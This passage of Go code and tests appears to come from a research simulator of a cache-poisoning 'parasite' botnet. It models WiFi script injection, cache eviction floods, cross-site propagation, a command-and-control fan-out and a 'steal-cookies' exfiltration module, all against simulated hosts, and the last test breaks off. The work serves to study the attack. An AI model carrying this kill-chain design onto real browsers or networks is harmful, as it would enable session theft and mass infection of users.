	// LastCommandAt is the virtual instant the final command landed —
	// the fan-out completion time the goodput is measured against.
	LastCommandAt time.Duration
	// LinkLost / LinkDup total the LAN links' fault counters.
	LinkLost int
	LinkDup  int
}

// Goodput reports the C&C fan-out rate in KB/s of virtual time:
// total command payload over the instant the last command landed.
func (r FleetResult) Goodput() float64 {
	if r.LastCommandAt <= 0 {
		return 0
	}
	return float64(r.CommandBytes) / r.LastCommandAt.Seconds() / 1024
}

// LatencyPercentiles returns the p50/p90/p99/max command round trips
// over the commanded bots (zero-latency never-commanded bots excluded).
func (r FleetResult) LatencyPercentiles() (p50, p90, p99, max time.Duration) {
	lat := make([]time.Duration, 0, len(r.Latencies))
	for _, l := range r.Latencies {
		if l > 0 {
			lat = append(lat, l)
		}
	}
	if len(lat) == 0 {
		return 0, 0, 0, 0
	}
	sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
	at := func(p float64) time.Duration {
		i := int(p * float64(len(lat)-1))
		return lat[i]
	}
	return at(0.50), at(0.90), at(0.99), lat[len(lat)-1]
}

// fleetBot is one victim station's whole state — deliberately tiny, so
// a 10⁶-bot fleet stays in memory.
type fleetBot struct {
	ifc      *netsim.Interface
	infected bool
	regAt    time.Duration
	latency  time.Duration
}

// fleetLAN is one LAN shard's world: bots, the local infection log, and
// the LAN's own PRNG. Everything here is touched only by the shard's
// executor, never by another shard.
type fleetLAN struct {
	id         int
	shard      *netsim.Shard
	seg        *netsim.Segment
	bots       []fleetBot
	rng        *rand.Rand
	infections []InfectionEvent
	commanded  int
	lastCmdAt  time.Duration
	bytesGot   int
}

// Fleet is one assembled botnet topology, ready to Run. Tests may
// attach wire taps or replay recorders to the shards' networks before
// the run (LANShard/Backbone).
type Fleet struct {
	cfg      FleetConfig
	fab      *netsim.Fabric
	backbone *netsim.Shard
	lans     []*fleetLAN
	master   struct {
		registered int
		sent       int
	}
}

// NewFleet builds the topology: one shard per LAN plus the backbone
// shard with the C&C master, all uplinks declaring cfg.UplinkLatency.
func NewFleet(cfg FleetConfig) (*Fleet, error) {
	cfg = cfg.withDefaults()
	if cfg.LANs < 1 || cfg.BotsPerLAN < 1 {
		return nil, fmt.Errorf("core: fleet needs at least 1 LAN and 1 bot per LAN (got %d×%d)", cfg.LANs, cfg.BotsPerLAN)
	}
	f := &Fleet{cfg: cfg, fab: netsim.NewFabric()}

	// Backbone first (shard ID 0): merge ties favour the master's
	// replies, a fixed and documented choice.
	f.backbone = f.fab.MustAddShard("backbone")
	bbSeg := f.backbone.Network().MustSegment("backbone", 500*time.Microsecond)
	masterIfc, err := bbSeg.Attach(CNCAddr, 100*time.Microsecond, nil)
	if err != nil {
		return nil, err
	}
	cmd := make([]byte, cfg.CommandBytes)
	copy(cmd, "CMD")
	for i := 3; i < len(cmd); i++ {
		cmd[i] = byte('a' + i%26)
	}
	masterIfc.SetHandler(func(_ time.Duration, pkt netsim.Packet) {
		if len(pkt.Payload) < 3 || string(pkt.Payload[:3]) != "REG" {
			return
		}
		f.master.registered++
		f.master.sent += len(cmd)
		masterIfc.Send(netsim.Packet{Dst: pkt.Src, Proto: netsim.ProtoRaw, Payload: cmd})
	})
	if err := f.backbone.Uplink(bbSeg, "gw-backbone", cfg.UplinkLatency); err != nil {
		return nil, err
	}

	for l := 0; l < cfg.LANs; l++ {
		lan := &fleetLAN{id: l, rng: rand.New(rand.NewSource(runner.Seed(cfg.Seed, fmt.Sprintf("fleet-lan-%d", l))))}
		lan.shard, err = f.fab.AddShard(fmt.Sprintf("lan%04d", l))
		if err != nil {
			return nil, err
		}
		lan.seg = lan.shard.Network().MustSegment("wifi", 200*time.Microsecond)
		if cfg.Link != nil {
			lp := *cfg.Link
			// Each LAN draws faults from its own stream, derived from the
			// profile seed and the LAN id — scheduling-independent.
			lp.Seed = lp.Seed ^ uint64(0x9E3779B97F4A7C15*uint64(l+1))
			lan.seg.SetLinkProfile(lp)
		}
		lan.bots = make([]fleetBot, cfg.BotsPerLAN)
		for b := 0; b < cfg.BotsPerLAN; b++ {
			bot := b
			addr := netsim.Addr(fmt.Sprintf("l%d-b%d", l, b))
			delay := time.Duration(lan.rng.Intn(300)) * time.Microsecond
			lan.bots[b].ifc, err = lan.seg.Attach(addr, delay, func(now time.Duration, pkt netsim.Packet) {
				f.botReceive(lan, bot, now, pkt)
			})
			if err != nil {
				return nil, err
			}
		}
		if err := lan.shard.Uplink(lan.seg, netsim.Addr(fmt.Sprintf("gw-l%d", l)), cfg.UplinkLatency); err != nil {
			return nil, err
		}
		// Patient zero: the eavesdropping master on this WiFi wins its
		// first injection race at a seeded instant.
		zero := lan.rng.Intn(cfg.BotsPerLAN)
		at := time.Duration(lan.rng.Intn(20000)) * time.Microsecond
		lan.shard.Network().Schedule(at, func() { f.infect(lan, zero) })
		f.lans = append(f.lans, lan)
	}
	return f, nil
}

// botReceive dispatches one delivered frame on a bot.
func (f *Fleet) botReceive(lan *fleetLAN, b int, now time.Duration, pkt netsim.Packet) {
	switch {
	case len(pkt.Payload) >= 3 && string(pkt.Payload[:3]) == "INF":
		f.infect(lan, b)
	case len(pkt.Payload) >= 3 && string(pkt.Payload[:3]) == "CMD":
		bot := &lan.bots[b]
		if bot.latency != 0 || !bot.infected {
			return // duplicate command (faulty link) or spoofed noise
		}
		bot.latency = now - bot.regAt
		lan.commanded++
		lan.bytesGot += len(pkt.Payload)
		if now > lan.lastCmdAt {
			lan.lastCmdAt = now
		}
	}
}

// infect turns a bot: it logs the infection, registers with the C&C
// across the uplink, and gossips the parasite to seeded LAN neighbours
// after seeded delays. Runs only on the LAN's own shard.
func (f *Fleet) infect(lan *fleetLAN, b int) {
	bot := &lan.bots[b]
	if bot.infected {
		return
	}
	now := lan.shard.Network().Now()
	bot.infected = true
	lan.infections = append(lan.infections, InfectionEvent{At: now, LAN: lan.id, Bot: b})
	bot.regAt = now
	bot.ifc.Send(netsim.Packet{
		Dst: CNCAddr, Proto: netsim.ProtoRaw,
		Payload: []byte(fmt.Sprintf("REG|%d|%d", lan.id, b)),
	})
	n := len(lan.bots)
	if n == 1 {
		return
	}
	for g := 0; g < f.cfg.GossipFanout; g++ {
		peer := (b + 1 + lan.rng.Intn(n-1)) % n
		delay := time.Millisecond + time.Duration(lan.rng.Intn(24000))*time.Microsecond
		target := lan.bots[peer].ifc.Addr()
		src := bot.ifc
		lan.shard.Network().Schedule(delay, func() {
			src.Send(netsim.Packet{Dst: target, Proto: netsim.ProtoRaw, Payload: []byte("INF")})
		})
	}
}

// Fabric exposes the underlying sharded fabric (lookahead, shards).
func (f *Fleet) Fabric() *netsim.Fabric { return f.fab }

// Backbone returns the C&C shard.
func (f *Fleet) Backbone() *netsim.Shard { return f.backbone }

// LANs reports the LAN count.
func (f *Fleet) LANs() int { return len(f.lans) }

// LANShard returns LAN i's shard, e.g. to attach a wire tap or replay
// recorder before Run.
func (f *Fleet) LANShard(i int) *netsim.Shard { return f.lans[i].shard }

// Run drains the fleet on the given number of shard workers and folds
// the per-shard state — in shard order, so the aggregation is as
// deterministic as the simulation — into a FleetResult.
func (f *Fleet) Run(workers int) (FleetResult, error) {
	events, err := f.fab.Run(workers)
	if err != nil {
		return FleetResult{}, err
	}
	res := FleetResult{
		Bots:       f.cfg.LANs * f.cfg.BotsPerLAN,
		Registered: f.master.registered,
		Events:     events,
	}
	for _, lan := range f.lans {
		res.Infected += len(lan.infections)
		res.Infections = append(res.Infections, lan.infections...)
		res.Commanded += lan.commanded
		res.CommandBytes += lan.bytesGot
		if lan.lastCmdAt > res.LastCommandAt {
			res.LastCommandAt = lan.lastCmdAt
		}
		for b := range lan.bots {
			res.Latencies = append(res.Latencies, lan.bots[b].latency)
		}
		res.LinkLost += lan.seg.Lost()
		res.LinkDup += lan.seg.Duplicated()
	}
	// Per-LAN logs are time-ordered already; the global log orders by
	// (time, LAN, bot) — the documented merge convention.
	sort.SliceStable(res.Infections, func(i, j int) bool {
		a, b := res.Infections[i], res.Infections[j]
		if a.At != b.At {
			return a.At < b.At
		}
		if a.LAN != b.LAN {
			return a.LAN < b.LAN
		}
		return a.Bot < b.Bot
	})
	return res, nil
}
