package core

import (
	"fmt"
	"testing"

	"masterparasite/internal/attacker"
	"masterparasite/internal/parasite"
	"masterparasite/internal/runner"
	"masterparasite/internal/script"
)

// TestScenariosAreSelfContained is the contract the scenario-fleet
// engine rests on: many scenarios, constructed and driven concurrently,
// never share mutable state. Each fleet member runs the full kill chain
// — eviction target setup, injection, exfiltration over its own C&C —
// and must see exactly its own loot; the race detector guards the
// "no sharing" half of the claim.
func TestScenariosAreSelfContained(t *testing.T) {
	const fleet = 16
	type outcome struct {
		infected bool
		loot     string
	}
	outcomes, err := runner.Map(runner.New(8), make([]struct{}, fleet), func(i int, _ struct{}) (outcome, error) {
		seed := runner.Seed(99, fmt.Sprintf("fleet-%d", i))
		s, err := NewScenario(Config{Seed: seed})
		if err != nil {
			return outcome{}, err
		}
		botID := fmt.Sprintf("bot-fleet-%d", i)
		s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`,
			map[string]string{"Cache-Control": "no-store"})
		s.AddPage("somesite.com", "/my.js", "function site(){}",
			map[string]string{"Cache-Control": "max-age=600", "Content-Type": "application/javascript"})

		cfg := parasite.NewConfig("fl", botID, MasterHost)
		cfg.Propagate = false
		cfg.Modules["whoami"] = func(env script.Env, _ string, exfil parasite.Exfil) error {
			exfil("whoami", []byte(fmt.Sprintf("scenario-%d on %s", i, env.PageHost())))
			return nil
		}
		s.Registry.Add(cfg)
		s.Master.AddTarget(attacker.Target{
			Name: "somesite.com/my.js", Kind: attacker.KindJS,
			ParasitePayload: "fl", Original: []byte("function original(){}"),
		})
		s.CNC.QueueCommand(botID, []byte("whoami|"))
		page, err := s.Visit("somesite.com", "/")
		if err != nil {
			return outcome{}, err
		}
		var o outcome
		for _, sc := range page.Scripts {
			if script.Infected(sc.Content) {
				o.infected = true
			}
		}
		if loot, ok := s.CNC.Upload(botID, "whoami"); ok {
			o.loot = string(loot)
		}
		return o, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for i, o := range outcomes {
		if !o.infected {
			t.Errorf("scenario %d: kill chain did not infect", i)
		}
		want := fmt.Sprintf("scenario-%d on somesite.com", i)
		if o.loot != want {
			t.Errorf("scenario %d: loot = %q, want %q — scenarios leaked state", i, o.loot, want)
		}
	}
}
