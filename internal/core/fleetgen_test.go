package core

import (
	"testing"
	"time"

	"masterparasite/internal/netsim"
	"masterparasite/internal/replay"
)

// runFleet builds and drains one fleet at the given worker count,
// optionally lossy and optionally with a replay recorder tapping every
// shard's wire, and returns the result plus per-shard fingerprints.
func runFleet(t *testing.T, workers int, lossy, taps bool) (FleetResult, map[string]string) {
	t.Helper()
	cfg := FleetConfig{LANs: 6, BotsPerLAN: 60, Seed: 42}
	if lossy {
		cfg.Link = &netsim.LinkProfile{
			Name: "fleet-lossy", Loss: 0.04, Duplicate: 0.02,
			Jitter: 400 * time.Microsecond, Seed: 9001,
		}
	}
	fleet, err := NewFleet(cfg)
	if err != nil {
		t.Fatal(err)
	}
	recs := make(map[string]*replay.Recorder)
	if taps {
		attach := func(name string, n *netsim.Network) {
			rec := replay.NewRecorder(nil)
			replay.NewTap(rec, nil).Attach(n)
			recs[name] = rec
		}
		attach("backbone", fleet.Backbone().Network())
		for i := 0; i < fleet.LANs(); i++ {
			attach(fleet.LANShard(i).Name(), fleet.LANShard(i).Network())
		}
	}
	res, err := fleet.Run(workers)
	if err != nil {
		t.Fatal(err)
	}
	prints := make(map[string]string, len(recs))
	for name, rec := range recs {
		prints[name] = rec.Fingerprint()
	}
	return res, prints
}

// TestFleetDeterministicAcrossWorkers: one fleet topology drained at 1,
// 4, and 8 shard workers produces the identical infection log, latency
// vector, counters, and — with a replay recorder attached to every
// shard — identical per-shard replay fingerprints, on a clean wire and
// under a lossy, duplicating LinkProfile alike.
func TestFleetDeterministicAcrossWorkers(t *testing.T) {
	for _, lossy := range []bool{false, true} {
		name := "clean"
		if lossy {
			name = "lossy"
		}
		t.Run(name, func(t *testing.T) {
			ref, refPrints := runFleet(t, 1, lossy, true)
			if ref.Infected == 0 || ref.Commanded == 0 {
				t.Fatalf("reference run did nothing: %+v", ref)
			}
			for _, workers := range []int{4, 8} {
				got, prints := runFleet(t, workers, lossy, true)
				if got.Events != ref.Events || got.Infected != ref.Infected ||
					got.Commanded != ref.Commanded || got.CommandBytes != ref.CommandBytes ||
					got.LastCommandAt != ref.LastCommandAt ||
					got.LinkLost != ref.LinkLost || got.LinkDup != ref.LinkDup {
					t.Errorf("workers=%d: result diverged:\nseq: %+v\npar: %+v", workers, ref, got)
				}
				for i := range ref.Infections {
					if got.Infections[i] != ref.Infections[i] {
						t.Fatalf("workers=%d: infection %d = %+v, sequential %+v",
							workers, i, got.Infections[i], ref.Infections[i])
					}
				}
				for i := range ref.Latencies {
					if got.Latencies[i] != ref.Latencies[i] {
						t.Fatalf("workers=%d: latency %d differs", workers, i)
					}
				}
				for shard, want := range refPrints {
					if prints[shard] != want {
						t.Errorf("workers=%d: shard %s replay fingerprint %.12s, sequential %.12s",
							workers, shard, prints[shard], want)
					}
				}
			}
		})
	}
}

// TestFleetKillChainCompletes pins the fleet protocol end to end on a
// clean wire: every infected bot registers exactly once, the master
// answers every registration, and every commanded bot's latency is at
// least two uplink crossings (REG out, command back).
func TestFleetKillChainCompletes(t *testing.T) {
	res, _ := runFleet(t, 4, false, false)
	if res.Infected != res.Registered || res.Infected != res.Commanded {
		t.Fatalf("protocol leak: infected=%d registered=%d commanded=%d",
			res.Infected, res.Registered, res.Commanded)
	}
	if res.Infected < res.Bots/2 {
		t.Fatalf("gossip died out: %d/%d infected", res.Infected, res.Bots)
	}
	minRTT := 2 * 5 * time.Millisecond // two lookahead crossings
	for i, lat := range res.Latencies {
		if lat != 0 && lat < minRTT {
			t.Fatalf("bot %d commanded after %v — faster than two uplink crossings (%v)", i, lat, minRTT)
		}
	}
	if p50, _, _, max := res.LatencyPercentiles(); p50 == 0 || max < p50 {
		t.Fatalf("percentiles degenerate: p50=%v max=%v", p50, max)
	}
	if res.Goodput() <= 0 {
		t.Fatalf("goodput = %f with %d command bytes", res.Goodput(), res.CommandBytes)
	}
}

// TestFleetConfigValidation: impossible topologies fail up front.
func TestFleetConfigValidation(t *testing.T) {
	for _, cfg := range []FleetConfig{{LANs: 0, BotsPerLAN: 5}, {LANs: 5, BotsPerLAN: 0}} {
		if _, err := NewFleet(cfg); err == nil {
			t.Fatalf("config %+v accepted", cfg)
		}
	}
}

// TestFleetStatsExposeParallelStructure: the fabric's RunStats must
// show the sharded run's parallel slack — a critical path well under
// the total at 8 workers — and be identical across worker counts
// except for the worker-share floor.
func TestFleetStatsExposeParallelStructure(t *testing.T) {
	fleet, err := NewFleet(FleetConfig{LANs: 8, BotsPerLAN: 80, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fleet.Run(8); err != nil {
		t.Fatal(err)
	}
	st := fleet.Fabric().Stats()
	if st.Windows == 0 || st.Events == 0 || st.Boundary == 0 {
		t.Fatalf("stats empty: %+v", st)
	}
	if st.CriticalPath >= st.Events {
		t.Fatalf("critical path %d not below total %d at 8 workers — no parallel slack", st.CriticalPath, st.Events)
	}
}
