package core

import (
	"strings"
	"testing"

	"masterparasite/internal/attacker"
	"masterparasite/internal/browser"
	"masterparasite/internal/parasite"
	"masterparasite/internal/script"
)

func TestBotnetMultipleVictims(t *testing.T) {
	// The paper's "parasites botnet": two victims on the same WiFi, the
	// master infects both, each reports under its own bot identity, and
	// the master commands them independently.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)

	// Two strains — one per victim identity. (A real deployment derives
	// the bot id victim-side; strains keep the simulation explicit.)
	for _, id := range []string{"v1", "v2"} {
		cfg := parasite.NewConfig(id, "bot-"+id, MasterHost)
		cfg.Propagate = false
		cfg.Modules["whoami"] = func(env script.Env, _ string, exfil parasite.Exfil) error {
			exfil("id", []byte(env.UserAgent()))
			return nil
		}
		s.Registry.Add(cfg)
	}
	// The master targets different objects for the two victims: victim 1
	// browses somesite.com, victim 2 browses top1.com.
	s.Master.AddTarget(attacker.Target{Name: "somesite.com/my.js", Kind: attacker.KindJS,
		ParasitePayload: "v1", Original: []byte("o")})
	s.Master.AddTarget(attacker.Target{Name: "top1.com/persistent.js", Kind: attacker.KindJS,
		ParasitePayload: "v2", Original: []byte("o")})

	victim2, err := s.AddVictim("victim-2", "Firefox", 99)
	if err != nil {
		t.Fatal(err)
	}

	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.VisitAs(victim2, "top1.com", "/"); err != nil {
		t.Fatal(err)
	}

	// Both infected; now command each bot separately, off-path.
	s.LeaveAttackerNetwork()
	s.CNC.QueueCommand("bot-v1", []byte("whoami|"))
	s.CNC.QueueCommand("bot-v2", []byte("whoami|"))
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.VisitAs(victim2, "top1.com", "/"); err != nil {
		t.Fatal(err)
	}

	loot1, ok1 := s.CNC.Upload("bot-v1", "id")
	loot2, ok2 := s.CNC.Upload("bot-v2", "id")
	if !ok1 || !ok2 {
		t.Fatalf("exfil: v1=%v v2=%v", ok1, ok2)
	}
	if !strings.Contains(string(loot1), "Chrome") {
		t.Fatalf("bot-v1 loot = %q", loot1)
	}
	if !strings.Contains(string(loot2), "Firefox") {
		t.Fatalf("bot-v2 loot = %q", loot2)
	}
	bots := s.CNC.Bots()
	if len(bots) != 2 {
		t.Fatalf("bots = %v", bots)
	}
}

func TestSharedFilePropagation(t *testing.T) {
	// §VI-B1 "Propagation on the same device via shared files": infecting
	// the analytics script once means the parasite executes on every site
	// that embeds it — with no further injection.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	for _, site := range []string{"site-a.com", "site-b.com", "site-c.com"} {
		s.AddPage(site, "/", `<html><body><script src="analytics.example/ga.js"></script></body></html>`,
			map[string]string{"Cache-Control": "no-store"})
	}
	s.AddPage("analytics.example", "/ga.js", "function ga(){}",
		map[string]string{"Cache-Control": "max-age=86400", "Content-Type": "application/javascript"})

	cfg := parasite.NewConfig("ga", "bot-ga", MasterHost)
	cfg.Propagate = false
	s.Registry.Add(cfg)
	s.Master.AddTarget(attacker.Target{Name: "analytics.example/ga.js", Kind: attacker.KindJS,
		ParasitePayload: "ga", Original: []byte("function ga(){}")})

	// One visit on the attacker's network infects the shared file.
	if _, err := s.Visit("site-a.com", "/"); err != nil {
		t.Fatal(err)
	}
	injections := s.Master.Stats().Injections
	if injections == 0 {
		t.Fatal("shared file not injected")
	}

	// Off-path, the other sites execute the same cached parasite.
	s.LeaveAttackerNetwork()
	for _, site := range []string{"site-b.com", "site-c.com"} {
		page, err := s.Visit(site, "/")
		if err != nil {
			t.Fatal(err)
		}
		infected := false
		for _, sc := range page.Scripts {
			if script.Infected(sc.Content) {
				infected = true
			}
		}
		if !infected {
			t.Fatalf("%s did not execute the shared-file parasite", site)
		}
	}
	if s.Master.Stats().Injections != injections {
		t.Fatal("additional injections occurred off-path")
	}
	origins := s.Registry.InfectedOrigins("bot-ga")
	if len(origins) != 3 {
		t.Fatalf("parasite ran on %v, want all three embedding sites", origins)
	}
}

func TestEvictionThenInfectionPipeline(t *testing.T) {
	// Fig. 1 feeding Fig. 2: the object is already cached (fresh for a
	// day), so the master first evicts it, and only then can the next
	// visit be infected.
	prof, err := scaledChrome()
	if err != nil {
		t.Fatal(err)
	}
	s, err := NewScenario(Config{ProfileOverride: prof})
	if err != nil {
		t.Fatal(err)
	}
	s.AddPage("popular.com", "/", `<html><body><script src="/app.js"></script></body></html>`,
		map[string]string{"Cache-Control": "no-store"})
	s.AddPage("popular.com", "/app.js", "function app(){}",
		map[string]string{"Cache-Control": "max-age=86400"})
	s.AddPage("any.com", "/", `<html><body>benign</body></html>`,
		map[string]string{"Cache-Control": "no-store"})

	cfg := parasite.NewConfig("ev", "bot-ev", MasterHost)
	cfg.Propagate = false
	s.Registry.Add(cfg)

	// Phase 0: victim has the genuine object cached, long-lived.
	if _, err := s.Visit("popular.com", "/"); err != nil {
		t.Fatal(err)
	}
	// Arm infection; without eviction the next visit serves from cache.
	s.Master.AddTarget(attacker.Target{Name: "popular.com/app.js", Kind: attacker.KindJS,
		ParasitePayload: "ev", Original: []byte("function app(){}")})
	page, err := s.Visit("popular.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	if script.Infected(page.Scripts[0].Content) {
		t.Fatal("infected without a network fetch — cache model broken")
	}

	// Phase 1: eviction flood sized to the (scaled) cache.
	junkCount := int(prof.CacheSize)/4096 + 8
	s.Master.EnableEviction(JunkHost, junkCount, 4096, "any.com")
	if _, err := s.Visit("any.com", "/"); err != nil {
		t.Fatal(err)
	}
	if s.Victim.Cache().Contains("popular.com", "popular.com/app.js") {
		t.Fatal("eviction flood did not supplant the victim object")
	}

	// Phase 2: the re-fetch is injectable.
	page2, err := s.Visit("popular.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	if !script.Infected(page2.Scripts[0].Content) {
		t.Fatal("post-eviction visit not infected")
	}
}

func scaledChrome() (*browser.Profile, error) {
	p, err := browser.ProfileByName("Chrome")
	if err != nil {
		return nil, err
	}
	p.CacheSize = 128 * 1024
	return &p, nil
}
