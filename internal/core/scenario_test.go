package core

import (
	"strings"
	"testing"

	"masterparasite/internal/attacker"
	"masterparasite/internal/httpcache"
	"masterparasite/internal/parasite"
	"masterparasite/internal/script"
	"masterparasite/internal/tcpsim"
)

// populateWeb installs the standard site population used across tests:
// somesite.com (initial infection vector) and three popular targets.
func populateWeb(s *Scenario) {
	s.AddPage("somesite.com", "/", `<html><body><script src="/my.js"></script></body></html>`, nil)
	s.AddPage("somesite.com", "/my.js", "function site(){return 1}", map[string]string{
		"Content-Type": "application/javascript", "Cache-Control": "max-age=600",
	})
	for _, d := range []string{"top1.com", "top2.com", "top3.com"} {
		s.AddPage(d, "/", `<html><body><script src="/persistent.js"></script></body></html>`, nil)
		s.AddPage(d, "/persistent.js", "function lib(){} /* "+d+" */", map[string]string{
			"Content-Type": "application/javascript", "Cache-Control": "max-age=600",
		})
	}
}

// armMaster sets up the strain and infection targets for the standard
// population.
func armMaster(s *Scenario) *parasite.Config {
	cfg := parasite.NewConfig("p1", "bot-1", MasterHost)
	cfg.PropagationTargets = []string{"top1.com", "top2.com", "top3.com"}
	s.Registry.Add(cfg)
	for _, name := range []string{
		"somesite.com/my.js", "top1.com/persistent.js",
		"top2.com/persistent.js", "top3.com/persistent.js",
	} {
		s.Master.AddTarget(attacker.Target{
			Name: name, Kind: attacker.KindJS, ParasitePayload: "p1",
			Original: []byte("function original(){}"),
		})
	}
	return cfg
}

func TestInjectionInfectsCache(t *testing.T) {
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.Propagate = false // isolate the infection step

	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Scripts) == 0 {
		t.Fatal("no script executed")
	}
	if !script.Infected(page.Scripts[0].Content) {
		t.Fatal("victim executed the genuine script; injection lost the race")
	}
	e, ok := s.Victim.Cache().Get("somesite.com", "somesite.com/my.js")
	if !ok || !script.Infected(e.Body) {
		t.Fatal("infected object not cached")
	}
	if cc := e.Header.Get("Cache-Control"); !strings.Contains(cc, "max-age=31536000") {
		t.Fatalf("attacker cache headers lost: %q", cc)
	}
	if s.Master.Stats().Injections == 0 {
		t.Fatal("master recorded no injections")
	}
}

func TestReloadOriginalKeepsPageFunctional(t *testing.T) {
	// Fig. 2 steps 3-4: the parasite refetches the original with an
	// ignored query parameter, and the master lets that one through.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.Propagate = false

	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if s.Registry.Reloads() == 0 {
		t.Fatal("parasite did not reload the original")
	}
	// The cache-buster copy must be the *unmodified* original.
	found := false
	for _, url := range s.Victim.Cache().URLs() {
		if strings.HasPrefix(url, "somesite.com/my.js?t=") {
			found = true
			e, _ := s.Victim.Cache().Get("somesite.com", url)
			if script.Infected(e.Body) {
				t.Fatal("reloaded original is infected; camouflage broken")
			}
		}
	}
	if !found {
		t.Fatal("no cache-busted original in cache")
	}
}

func TestPropagationInfectsOtherDomains(t *testing.T) {
	// §VI-B1 / Fig. 2 step 5: visiting one infected site cross-infects
	// the popular domains through iframes.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	armMaster(s)

	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	for _, d := range []string{"top1.com", "top2.com", "top3.com"} {
		e, ok := s.Victim.Cache().Get("somesite.com", d+"/persistent.js")
		if !ok {
			t.Fatalf("%s object not cached via propagation", d)
		}
		if !script.Infected(e.Body) {
			t.Fatalf("%s object cached but not infected", d)
		}
	}
	origins := s.Registry.InfectedOrigins("bot-1")
	if len(origins) != 4 {
		t.Fatalf("infected origins = %v, want 4", origins)
	}
}

func TestParasitePersistsAfterLeavingNetwork(t *testing.T) {
	// §VI: the parasite survives the victim moving to another network —
	// later visits execute it from cache with no attacker on-path.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.Propagate = false
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	s.LeaveAttackerNetwork()
	injBefore := s.Master.Stats().Injections

	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
	if !script.Infected(page.Scripts[0].Content) {
		t.Fatal("parasite gone after leaving the attacker's network")
	}
	if s.Master.Stats().Injections != injBefore {
		t.Fatal("master injected while off-path")
	}
}

func TestCNCRoundTripThroughCovertChannel(t *testing.T) {
	// Fig. 4: the master queues a command; the parasite (executing from
	// cache, attacker off-path) decodes it from image dimensions,
	// executes the module, and exfiltrates through img-src URLs.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.Propagate = false
	var gotParams string
	cfg.Modules["steal-cookies"] = func(env script.Env, params string, exfil parasite.Exfil) error {
		gotParams = params
		exfil("cookies", []byte("session="+env.Cookies(env.PageHost())))
		return nil
	}

	// Infect, then leave the network.
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	s.LeaveAttackerNetwork()
	s.Victim.Cookies().Set("somesite.com", "sid", "s3cr3t")

	// The master queues a command; next visit runs the parasite.
	s.CNC.QueueCommand("bot-1", []byte("steal-cookies|all"))
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if gotParams != "all" {
		t.Fatalf("module params = %q, want all", gotParams)
	}
	loot, ok := s.CNC.Upload("bot-1", "cookies")
	if !ok {
		t.Fatal("no exfiltrated stream at the master")
	}
	if !strings.Contains(string(loot), "sid=s3cr3t") {
		t.Fatalf("loot = %q", loot)
	}
	if s.Registry.Commands() != 1 {
		t.Fatalf("commands executed = %d", s.Registry.Commands())
	}
}

func TestCommandNotReExecuted(t *testing.T) {
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.Propagate = false
	runs := 0
	cfg.Modules["noop"] = func(script.Env, string, parasite.Exfil) error {
		runs++
		return nil
	}
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	s.CNC.QueueCommand("bot-1", []byte("noop|"))
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if _, err := s.Visit("somesite.com", "/"); err != nil {
		t.Fatal(err)
	}
	if runs != 1 {
		t.Fatalf("command ran %d times, want 1", runs)
	}
}

func TestEvictionFloodsVictimCache(t *testing.T) {
	// Fig. 1: cached objects of a popular domain are supplanted by the
	// junk flood so the next request goes to the network.
	s, err := NewScenario(Config{})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	s.AddPage("any.com", "/", `<html><body>benign</body></html>`, nil)

	// Prime: victim caches top1.com's object legitimately.
	if _, err := s.Visit("top1.com", "/"); err != nil {
		t.Fatal(err)
	}
	if !s.Victim.Cache().Contains("top1.com", "top1.com/persistent.js") {
		t.Fatal("priming failed")
	}

	// Flood enough junk to exceed the 320 MiB budget: 4 KiB objects ⇒
	// impractical count; instead verify mechanism with a focused flood
	// against a small logical budget by issuing a large junk count and
	// checking junk landed in cache and (for a small cache) the victim
	// object was supplanted. The Table I experiment uses purpose-sized
	// caches; here we exercise the full network path.
	s.Master.EnableEviction(JunkHost, 32, 4096, "any.com")
	if _, err := s.Visit("any.com", "/"); err != nil {
		t.Fatal(err)
	}
	if s.Master.Stats().EvictionScripts == 0 {
		t.Fatal("eviction script never injected")
	}
	junk := s.Victim.Cache().CountWhere(func(e *httpcache.Entry) bool {
		return strings.HasPrefix(e.URL, JunkHost+"/junk")
	})
	if junk != 32 {
		t.Fatalf("junk objects cached = %d, want 32", junk)
	}
}

func TestLastWinsAblationStillInfects(t *testing.T) {
	// Ablation: even under last-wins the injected response is delivered
	// first and consumed; the attack's true dependency is the race win
	// plus duplicate discard of already-delivered bytes.
	s, err := NewScenario(Config{ReassemblyPolicy: tcpsim.LastWins})
	if err != nil {
		t.Fatal(err)
	}
	populateWeb(s)
	cfg := armMaster(s)
	cfg.Propagate = false
	page, err := s.Visit("somesite.com", "/")
	if err != nil {
		t.Fatal(err)
	}
